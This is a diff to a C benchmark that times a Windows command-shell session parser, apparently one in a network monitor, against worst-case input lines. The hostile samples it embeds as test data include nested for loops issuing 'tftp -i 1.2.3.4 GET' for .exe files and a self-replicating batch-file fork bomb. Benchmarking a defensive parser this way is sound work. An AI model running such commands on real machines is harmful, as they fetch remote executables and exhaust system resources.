@@ -92,6 +92,90 @@ static void noop(const struct ws_shell_event *ev, void *arg)
 	(*(unsigned *)arg)++;
 }
 
+/* The worst lines we know of, each as the attacker's: time per line. */
+static void bench_hostile(void)
+{
+	static char line[20000];
+	struct timeval ts = {0, 0};
+	unsigned events = 0;
+	const char *banner = "Microsoft Windows XP [Version 5.1.2600]\r\n\r\nC:\\WINDOWS\\system32>";
+	const char *names[] = {"8191 x '('", "4096 x 'a^' continued lines", "%x:<4000 a>=b% on an 8000-byte x",
+			       "for in for in for in for, 8 items each", "2700 x 'cmd /c '",
+			       "2700 x 'echo x&'", "batch calling itself 4 times per line",
+			       "8191 printable random bytes"};
+
+	printf("hostile lines (each fed to a fresh attacker session):\n");
+	for (int k = 0; k < 8; k++) {
+		struct ws_shell *s;
+		size_t n = 0;
+		double t0, best = 1e30;
+
+		for (int rep = 0; rep < 5; rep++) {
+			s = ws_shell_new();
+			ws_shell_feed(s, WS_SIDE_SERVER, (const uint8_t *)banner, strlen(banner), &ts, noop, &events);
+			switch (k) {
+			case 0:
+				memset(line, '(', 8191);
+				n = 8191;
+				line[n++] = '\n';
+				break;
+			case 1:
+				for (n = 0; n < 4096 * 3; n += 3)
+					memcpy(line + n, "a^\n", 3);
+				line[n++] = '\n';
+				break;
+			case 2: {
+				char *set = malloc(9000);
+
+				memcpy(set, "set x=", 6);
+				memset(set + 6, 'a', 8000);
+				set[8006] = '\n';
+				ws_shell_feed(s, WS_SIDE_CLIENT, (uint8_t *)set, 8007, &ts, noop, &events);
+				free(set);
+				n = (size_t)sprintf(line, "echo %%x:");
+				memset(line + n, 'a', 4000);
+				n += 4000;
+				n += (size_t)sprintf(line + n, "=b%%\n");
+				break;
+			}
+			case 3:
+				n = (size_t)sprintf(line, "for %%a in (1 2 3 4 5 6 7 8) do for %%b in (1 2 3 4 5 6 7 8) do "
+							  "for %%c in (1 2 3 4 5 6 7 8) do for %%d in (1 2 3 4 5 6 7 8) do "
+							  "tftp -i 1.2.3.4 GET %%a%%b%%c%%d.exe\n");
+				break;
+			case 4:
+				for (n = 0; n + 7 < 8191; n += 7)
+					memcpy(line + n, "cmd /c ", 7);
+				line[n++] = '\n';
+				break;
+			case 5:
+				for (n = 0; n + 7 < 8191; n += 7)
+					memcpy(line + n, "echo x&", 7);
+				line[n++] = '\n';
+				break;
+			case 6: {
+				const char *mk = "echo t.bat^&t.bat^&t.bat^&t.bat > t.bat\n";
+
+				ws_shell_feed(s, WS_SIDE_CLIENT, (const uint8_t *)mk, strlen(mk), &ts, noop, &events);
+				n = (size_t)sprintf(line, "t.bat\n");
+				break;
+			}
+			default:
+				for (n = 0; n < 8191; n++)
+					line[n] = (char)(0x20 + rnd() % 95);
+				line[n++] = '\n';
+				break;
+			}
+			t0 = now();
+			ws_shell_feed(s, WS_SIDE_CLIENT, (const uint8_t *)line, n, &ts, noop, &events);
+			t0 = now() - t0;
+			best = t0 < best ? t0 : best;
+			ws_shell_free(s);
+		}
+		printf("  %-42s %6zu bytes  %9.1f us/line\n", names[k], n, best * 1e6);
+	}
+}
+
 int main(int argc, char **argv)
 {
 	long calls = argc > 1 ? atol(argv[1]) : 2000000;
@@ -175,5 +259,6 @@ int main(int argc, char **argv)
 		printf("memory: after the Blaster session %zu bytes\n", st.heap);
 		ws_shell_free(s);
 	}
+	bench_hostile();
 	return 0;
 }
